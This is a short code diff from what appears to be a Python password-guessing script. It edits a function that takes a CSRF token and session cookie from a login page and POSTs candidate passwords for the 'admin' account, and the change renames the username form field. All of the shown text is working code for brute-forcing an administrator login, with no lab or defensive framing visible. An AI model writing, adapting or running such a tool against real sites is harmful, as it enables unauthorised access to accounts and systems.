@@ -88,7 +88,7 @@ def guess(password: str) -> Ask:
         if answer.status != 200 or token is None:
             return answer.status
         cookie = (answer.headers.get("Set-Cookie") or "").partition(";")[0]
-        body = urlencode({"csrfmiddlewaretoken": token[1], "login": "admin", "password": password})
+        body = urlencode({"csrfmiddlewaretoken": token[1], "username": "admin", "password": password})
         headers = {"Cookie": cookie, "Content-Type": "application/x-www-form-urlencoded"}
         connection.request("POST", SIGN_IN, body, headers)
         answer = connection.getresponse()
